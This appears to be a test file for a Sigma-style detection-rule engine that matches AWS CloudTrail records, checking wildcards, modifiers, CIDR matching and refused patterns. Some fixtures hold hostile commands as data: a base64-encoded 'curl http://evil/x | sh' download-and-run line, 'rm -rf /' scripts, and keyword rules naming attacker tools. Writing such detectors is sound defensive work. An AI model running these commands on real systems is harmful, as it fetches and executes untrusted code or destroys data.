import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileOk, errorText, one, rec } from './helpers.js';

describe('string values', () => {
  it('match whole values case-insensitively', () => {
    const r = one('eventName', 'StopLogging');
    assert.equal(r.matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(r.matches(rec({ eventName: 'stoplogging' })), true);
    assert.equal(r.matches(rec({ eventName: 'STOPLOGGING' })), true);
    assert.equal(r.matches(rec({ eventName: 'StopLoggingNow' })), false);
    assert.equal(r.matches(rec({ eventName: 'Stop' })), false);
  });

  it('* matches any run of characters, ? exactly one', () => {
    const star = one('eventName', "'Stop*ing'");
    assert.equal(star.matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(star.matches(rec({ eventName: 'Stoping' })), true);
    assert.equal(star.matches(rec({ eventName: 'StopLogger' })), false);
    const q = one('eventName', "'Get?ser'");
    assert.equal(q.matches(rec({ eventName: 'GetUser' })), true);
    assert.equal(q.matches(rec({ eventName: 'Getser' })), false);
    assert.equal(q.matches(rec({ eventName: 'GetUUser' })), false);
  });

  it('\\* \\? and \\\\ are literal characters', () => {
    const r = one('userAgent', "'a\\*b\\?c\\\\d'");
    assert.equal(r.matches(rec({ userAgent: 'a*b?c\\d' })), true);
    assert.equal(r.matches(rec({ userAgent: 'aXb?c\\d' })), false);
    assert.equal(r.matches(rec({ userAgent: 'a*bXc\\d' })), false);
    // A backslash before any other character is itself literal.
    const path = one('userAgent', "'C:\\Windows'");
    assert.equal(path.matches(rec({ userAgent: 'c:\\windows' })), true);
    // \\* is a literal backslash followed by a wildcard.
    const bs = one('userAgent', "'dir\\\\*'");
    assert.equal(bs.matches(rec({ userAgent: 'dir\\anything' })), true);
    assert.equal(bs.matches(rec({ userAgent: 'dirX' })), false);
  });

  it('wildcards are not regular-expression syntax', () => {
    const r = one('userAgent', "'a.c (x)+'");
    assert.equal(r.matches(rec({ userAgent: 'a.c (x)+' })), true);
    assert.equal(r.matches(rec({ userAgent: 'abc (x)x' })), false);
  });

  it('a pathological wildcard pattern stays fast on a long value', () => {
    const r = one('userAgent', "'*a*a*a*a*a*a*a*b'");
    const started = performance.now();
    assert.equal(r.matches(rec({ userAgent: 'a'.repeat(60_000) })), false);
    assert.ok(performance.now() - started < 2000);
  });

  it("'' matches the empty string only", () => {
    const r = one('errorCode', "''");
    assert.equal(r.matches(rec({ errorCode: '' })), true);
    assert.equal(r.matches(rec({ errorCode: 'AccessDenied' })), false);
    assert.equal(r.matches(rec()), false);
  });

  it('a string value matches numbers and booleans in their string form', () => {
    assert.equal(
      one('requestParameters.fromPort', "'22'").matches(rec({ requestParameters: { fromPort: 22 } })),
      true,
    );
    const b = one('responseElements.publiclyAccessible', "'true'");
    assert.equal(b.matches(rec({ responseElements: { publiclyAccessible: true } })), true);
    assert.equal(b.matches(rec({ responseElements: { publiclyAccessible: false } })), false);
  });

  it('non-ASCII values compare case-insensitively too', () => {
    const r = one('requestParameters.tagValue', "'Ärger'");
    assert.equal(r.matches(rec({ requestParameters: { tagValue: 'ärger' } })), true);
    assert.equal(r.matches(rec({ requestParameters: { tagValue: 'arger' } })), false);
  });
});

describe('numbers, booleans and null', () => {
  it('a number matches the number or its decimal string form', () => {
    const r = one('requestParameters.fromPort', '22');
    assert.equal(r.matches(rec({ requestParameters: { fromPort: 22 } })), true);
    assert.equal(r.matches(rec({ requestParameters: { fromPort: '22' } })), true);
    assert.equal(r.matches(rec({ requestParameters: { fromPort: '22.0' } })), true);
    assert.equal(r.matches(rec({ requestParameters: { fromPort: 2222 } })), false);
    assert.equal(r.matches(rec({ requestParameters: { fromPort: 'x22' } })), false);
    assert.equal(r.matches(rec({ requestParameters: {} })), false);
  });

  it('a boolean matches the boolean or the string true/false', () => {
    const r = one('readOnly', 'false');
    assert.equal(r.matches(rec({ readOnly: false })), true);
    assert.equal(r.matches(rec({ readOnly: 'false' })), true);
    assert.equal(r.matches(rec({ readOnly: 'FALSE' })), true);
    assert.equal(r.matches(rec({ readOnly: true })), false);
    assert.equal(r.matches(rec({ readOnly: 0 })), false);
    assert.equal(r.matches(rec()), false);
  });

  it('null matches a missing field or JSON null, not an empty string', () => {
    const r = one('errorCode', 'null');
    assert.equal(r.matches(rec()), true);
    assert.equal(r.matches(rec({ errorCode: null })), true);
    assert.equal(r.matches(rec({ errorCode: '' })), false);
    assert.equal(r.matches(rec({ errorCode: 'AccessDenied' })), false);
  });

  it('null in a list is one alternative (errorCode: Success or none)', () => {
    const r = one('errorCode', "[null, 'Success']");
    assert.equal(r.matches(rec()), true);
    assert.equal(r.matches(rec({ errorCode: 'Success' })), true);
    assert.equal(r.matches(rec({ errorCode: 'AccessDenied' })), false);
  });
});

describe('lists, maps and paths', () => {
  it('a list of values is an OR', () => {
    const r = one('eventName', '[StopLogging, DeleteTrail]');
    assert.equal(r.matches(rec({ eventName: 'DeleteTrail' })), true);
    assert.equal(r.matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(r.matches(rec({ eventName: 'UpdateTrail' })), false);
  });

  it('a map is an AND of its fields', () => {
    const r = compileOk(`
      detection:
        sel:
          eventSource: cloudtrail.amazonaws.com
          eventName: StopLogging
        condition: sel
    `);
    assert.equal(r.matches(rec({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' })), true);
    assert.equal(r.matches(rec({ eventSource: 'ec2.amazonaws.com', eventName: 'StopLogging' })), false);
  });

  it('a list of maps is an OR of ANDs', () => {
    const r = compileOk(`
      detection:
        sel:
          - eventSource: iam.amazonaws.com
            eventName: CreateUser
          - eventName: StopLogging
        condition: sel
    `);
    assert.equal(r.matches(rec({ eventSource: 'iam.amazonaws.com', eventName: 'CreateUser' })), true);
    assert.equal(r.matches(rec({ eventSource: 'sts.amazonaws.com', eventName: 'CreateUser' })), false);
    assert.equal(r.matches(rec({ eventName: 'StopLogging' })), true);
  });

  it('dotted paths walk nested objects and fan out over arrays at every step', () => {
    const r = one('requestParameters.ipPermissions.items.ipRanges.items.cidrIp', "'0.0.0.0/0'");
    const record = (cidrs: string[][]) =>
      rec({
        requestParameters: {
          ipPermissions: {
            items: cidrs.map((c) => ({ ipRanges: { items: c.map((cidrIp) => ({ cidrIp })) } })),
          },
        },
      });
    assert.equal(r.matches(record([['10.0.0.0/8'], ['192.168.0.0/16', '0.0.0.0/0']])), true);
    assert.equal(r.matches(record([['10.0.0.0/8'], ['192.168.0.0/16']])), false);
    assert.equal(r.matches(record([])), false);
  });

  it('a value that is an array matches when any element matches', () => {
    const r = one('requestParameters.layers', "'arn:aws:lambda:*'");
    assert.equal(
      r.matches(rec({ requestParameters: { layers: ['x', 'arn:aws:lambda:us-east-1:1:layer:l:1'] } })),
      true,
    );
    assert.equal(r.matches(rec({ requestParameters: { layers: ['x'] } })), false);
  });

  it('a literal key containing dots is found too', () => {
    const r = one('requestParameters.tag.key', 'owner');
    assert.equal(r.matches(rec({ requestParameters: { 'tag.key': 'owner' } })), true);
    assert.equal(r.matches(rec({ requestParameters: { tag: { key: 'owner' } } })), true);
    assert.equal(r.matches(rec({ requestParameters: { 'tag.key': 'other' } })), false);
  });

  it('never resolves inherited properties (__proto__, constructor, toString)', () => {
    const polluted = JSON.parse('{"requestParameters": {"__proto__": {"x": "1"}}}');
    assert.equal(one('requestParameters.__proto__.x', "'1'").matches(rec(polluted)), true);
    assert.equal(one('requestParameters.constructor', "'*'").matches(rec({ requestParameters: {} })), false);
    assert.equal(one('requestParameters.toString', 'null').matches(rec({ requestParameters: {} })), true);
    assert.equal(
      one('requestParameters.constructor.name', "'Object'").matches(rec({ requestParameters: {} })),
      false,
    );
    assert.equal(one('eventName.length', '11').matches(rec({ eventName: 'StopLogging' })), false);
  });

  it('a string value against an object searches every string inside it', () => {
    const r = one('requestParameters|contains', 'Suspended');
    assert.equal(
      r.matches(rec({ requestParameters: { VersioningConfiguration: { Status: 'Suspended' } } })),
      true,
    );
    assert.equal(
      r.matches(rec({ requestParameters: { VersioningConfiguration: { Status: 'Enabled' } } })),
      false,
    );
  });

  it('keywords match any string anywhere in the record, contains-style', () => {
    const r = compileOk(`
      detection:
        keywords:
          - 'trufflehog'
          - 'pacu*session'
        condition: keywords
    `);
    assert.equal(r.matches(rec({ userAgent: 'TruffleHog/3.0' })), true);
    assert.equal(r.matches(rec({ requestParameters: { deep: [{ note: 'by Pacu, session 4' }] } })), true);
    assert.equal(r.matches(rec({ userAgent: 'aws-cli/2' })), false);
  });
});

describe('modifiers', () => {
  it('contains, startswith, endswith', () => {
    const c = one('userAgent|contains', 'S3 Browser');
    assert.equal(c.matches(rec({ userAgent: 'Mozilla (s3 browser 9.5)' })), true);
    assert.equal(c.matches(rec({ userAgent: 'aws-cli' })), false);
    const s = one('eventName|startswith', 'UpdateFunctionConfiguration');
    assert.equal(s.matches(rec({ eventName: 'UpdateFunctionConfiguration20150331v2' })), true);
    assert.equal(s.matches(rec({ eventName: 'XUpdateFunctionConfiguration' })), false);
    const e = one('userIdentity.arn|endswith', ':root');
    assert.equal(e.matches(rec({ userIdentity: { arn: 'arn:aws:iam::1:ROOT' } })), true);
    assert.equal(e.matches(rec({ userIdentity: { arn: 'arn:aws:iam::1:root/x' } })), false);
  });

  it('contains keeps inner wildcards', () => {
    const r = one('userAgent|contains', "'aws-cli/*Python'");
    assert.equal(r.matches(rec({ userAgent: 'x aws-cli/2.0 Python/3 y' })), true);
    assert.equal(r.matches(rec({ userAgent: 'aws-cli/2.0' })), false);
  });

  it('contains|all needs every value', () => {
    const r = one('requestParameters.policyDocument|contains|all', `['"s3:GetObject"', '"Allow"']`);
    assert.equal(
      r.matches(rec({ requestParameters: { policyDocument: '{"Effect":"Allow","Action":"s3:GetObject"}' } })),
      true,
    );
    assert.equal(
      r.matches(rec({ requestParameters: { policyDocument: '{"Effect":"Deny","Action":"s3:GetObject"}' } })),
      false,
    );
  });

  it('re: unanchored, case-sensitive, with i, m and s sub-modifiers', () => {
    const r = one('userIdentity.arn|re', "'.+:assumed-role/aws:.+'");
    assert.equal(
      r.matches(rec({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })),
      true,
    );
    assert.equal(
      r.matches(rec({ userIdentity: { arn: 'arn:aws:sts::1:ASSUMED-ROLE/aws:ec2-instance/i-1' } })),
      false,
    );
    const i = one('userAgent|re|i', "'^boto3'");
    assert.equal(i.matches(rec({ userAgent: 'Boto3/1.2' })), true);
    assert.equal(i.matches(rec({ userAgent: 'x Boto3/1.2' })), false);
    const m = one('requestParameters.script|re|m', "'^rm -rf'");
    assert.equal(m.matches(rec({ requestParameters: { script: 'echo\nrm -rf /' } })), true);
    assert.equal(
      one('requestParameters.script|re', "'^rm -rf'").matches(
        rec({ requestParameters: { script: 'echo\nrm -rf /' } }),
      ),
      false,
    );
    const s = one('requestParameters.script|re|s', "'echo.rm'");
    assert.equal(s.matches(rec({ requestParameters: { script: 'echo\nrm' } })), true);
    assert.equal(
      one('requestParameters.script|re', "'echo.rm'").matches(
        rec({ requestParameters: { script: 'echo\nrm' } }),
      ),
      false,
    );
  });

  it('re runs on at most 64 KB of a value', () => {
    const r = one('userAgent|re', "'TAIL$'");
    assert.equal(r.matches(rec({ userAgent: `${'x'.repeat(100_000)}TAIL` })), false);
    assert.equal(r.matches(rec({ userAgent: `${'x'.repeat(1000)}TAIL` })), true);
  });

  it('cidr: IPv4 and IPv6 networks; non-addresses do not match', () => {
    const r = one('sourceIPAddress|cidr', "['10.0.0.0/8', '2001:db8::/32', '192.0.2.7']");
    assert.equal(r.matches(rec({ sourceIPAddress: '10.20.30.40' })), true);
    assert.equal(r.matches(rec({ sourceIPAddress: '11.0.0.1' })), false);
    assert.equal(r.matches(rec({ sourceIPAddress: '2001:db8:abcd::1' })), true);
    assert.equal(r.matches(rec({ sourceIPAddress: '2001:db9::1' })), false);
    assert.equal(r.matches(rec({ sourceIPAddress: '192.0.2.7' })), true);
    assert.equal(r.matches(rec({ sourceIPAddress: '192.0.2.8' })), false);
    for (const junk of [
      'AWS Internal',
      '08.1.250.216',
      'ec2.amazonaws.com',
      '10.0.0',
      '10.0.0.0.1',
      '',
      '10.0.0.256',
    ]) {
      assert.equal(r.matches(rec({ sourceIPAddress: junk })), false, junk);
    }
    assert.equal(r.matches(rec({ sourceIPAddress: 10 })), false);
  });

  it('exists: true and false', () => {
    const yes = one('errorCode|exists', 'true');
    const no = one('errorCode|exists', 'false');
    assert.equal(yes.matches(rec({ errorCode: 'AccessDenied' })), true);
    assert.equal(yes.matches(rec({ errorCode: null })), true, 'null is present');
    assert.equal(yes.matches(rec()), false);
    assert.equal(no.matches(rec()), true);
    assert.equal(no.matches(rec({ errorCode: '' })), false);
  });

  it('gt, gte, lt, lte compare numbers and numeric strings', () => {
    const gt = one('requestParameters.durationSeconds|gt', '3600');
    assert.equal(gt.matches(rec({ requestParameters: { durationSeconds: 43200 } })), true);
    assert.equal(gt.matches(rec({ requestParameters: { durationSeconds: '7200' } })), true);
    assert.equal(gt.matches(rec({ requestParameters: { durationSeconds: 3600 } })), false);
    assert.equal(gt.matches(rec({ requestParameters: { durationSeconds: 'long' } })), false);
    assert.equal(gt.matches(rec({ requestParameters: {} })), false);
    assert.equal(one('requestParameters.n|gte', '5').matches(rec({ requestParameters: { n: 5 } })), true);
    assert.equal(one('requestParameters.n|lt', '5').matches(rec({ requestParameters: { n: 5 } })), false);
    assert.equal(one('requestParameters.n|lt', '5').matches(rec({ requestParameters: { n: 4.5 } })), true);
    assert.equal(one('requestParameters.n|lte', '5').matches(rec({ requestParameters: { n: 5 } })), true);
  });

  it('neq: present, not null, and different from every value', () => {
    const r = one('userIdentity.type|neq', '[AssumedRole, AWSService]');
    assert.equal(r.matches(rec({ userIdentity: { type: 'Root' } })), true);
    assert.equal(r.matches(rec({ userIdentity: { type: 'assumedrole' } })), false);
    assert.equal(r.matches(rec({ userIdentity: {} })), false);
  });

  it('base64 matches the encoded value, case-sensitively', () => {
    const r = one('requestParameters.userData|base64', "'#!/bin/bash'");
    assert.equal(r.matches(rec({ requestParameters: { userData: 'IyEvYmluL2Jhc2g=' } })), true);
    assert.equal(r.matches(rec({ requestParameters: { userData: 'iyevymlul2jhc2g=' } })), false);
    const c = one('requestParameters.userData|base64|contains', "'curl'");
    assert.equal(c.matches(rec({ requestParameters: { userData: 'Y3VybA==' } })), true);
  });

  it('base64offset|contains finds the value at any of the three byte offsets', () => {
    const r = one('requestParameters.userData|base64offset|contains', "'curl http'");
    for (const prefix of ['', 'a', 'ab', 'abc', 'echo; ']) {
      const encoded = Buffer.from(`${prefix}curl http://evil/x | sh`).toString('base64');
      assert.equal(r.matches(rec({ requestParameters: { userData: encoded } })), true, `prefix '${prefix}'`);
    }
    const other = Buffer.from('wget http://evil/x').toString('base64');
    assert.equal(r.matches(rec({ requestParameters: { userData: other } })), false);
  });

  it('fieldref compares with another field of the same record', () => {
    const r = one('userIdentity.userName|fieldref', 'requestParameters.userName');
    assert.equal(
      r.matches(rec({ userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })),
      true,
    );
    assert.equal(
      r.matches(rec({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })),
      false,
    );
    assert.equal(r.matches(rec({ userIdentity: { userName: 'alice' }, requestParameters: {} })), false);
    const c = one('userIdentity.arn|fieldref|endswith', 'requestParameters.userName');
    assert.equal(
      c.matches(
        rec({ userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, requestParameters: { userName: 'alice' } }),
      ),
      true,
    );
    assert.equal(
      c.matches(
        rec({ userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, requestParameters: { userName: 'bob' } }),
      ),
      false,
    );
  });

  it('cased makes matching case-sensitive', () => {
    const r = one('eventName|cased', 'StopLogging');
    assert.equal(r.matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(r.matches(rec({ eventName: 'stoplogging' })), false);
    const c = one('userAgent|contains|cased', 'Boto3');
    assert.equal(c.matches(rec({ userAgent: 'x Boto3 y' })), true);
    assert.equal(c.matches(rec({ userAgent: 'x boto3 y' })), false);
  });
});

describe('refused modifiers and values', () => {
  const refused = (key: string, value: string, pattern: RegExp) => {
    const text = errorText(`
      detection:
        sel:
          ${key}: ${value}
        condition: sel
    `);
    assert.match(text, pattern);
    assert.match(text, /^test\.yml:9:\d+: error: /m, 'issue carries file, line and column');
  };

  it('windash, wide, utf16*, expand are refused as unsupported for CloudTrail', () => {
    for (const m of ['windash', 'wide', 'utf16le', 'utf16be', 'utf16', 'expand']) {
      refused(`userAgent|${m}`, 'x', new RegExp(`modifier '${m}' is not supported for CloudTrail rules`));
    }
  });

  it('an unknown modifier is an error', () => {
    refused('userAgent|containz', 'x', /unknown modifier 'containz'/);
  });

  it('incompatible combinations are errors', () => {
    refused('userAgent|contains|startswith', 'x', /'contains' and 'startswith' cannot be combined/);
    refused('sourceIPAddress|cidr|contains', "'10.0.0.0/8'", /'cidr' cannot be combined with 'contains'/);
    refused('userAgent|i', 'x', /sub-modifier of 're'/);
    refused('userAgent|base64offset', 'x', /'base64offset' must be followed by 'contains'/);
    refused('userAgent|re|contains', 'x', /'re' cannot be combined with 'contains'/);
  });

  it('bad values are errors', () => {
    refused('sourceIPAddress|cidr', "'10.0.0.0/33'", /invalid prefix length/);
    refused('sourceIPAddress|cidr', "'AWS Internal'", /not an IPv4 or IPv6 network/);
    refused('requestParameters.n|gt', 'many', /'gt' needs a number/);
    refused('errorCode|exists', 'maybe', /'exists' takes true or false/);
    refused('userAgent|re', "'(unclosed'", /invalid regular expression/);
    refused('userAgent|contains', 'null', /null cannot be used with modifiers contains/);
    refused('userAgent', '{a: 1}', /must be a scalar or a list of scalars/);
    refused('userAgent', '[]', /empty list of values/);
  });

  it('catastrophic regular expressions are refused with a clear message', () => {
    refused('userAgent|re', "'(a+)+$'", /nested quantifier .* can backtrack catastrophically/);
    refused('userAgent|re', "'(.*)*x'", /nested quantifier/);
    refused('userAgent|re', "'^(\\w+\\s?)*$'", /nested quantifier/);
    refused('userAgent|re', "'(a)\\1'", /back-references are not supported/);
  });
});
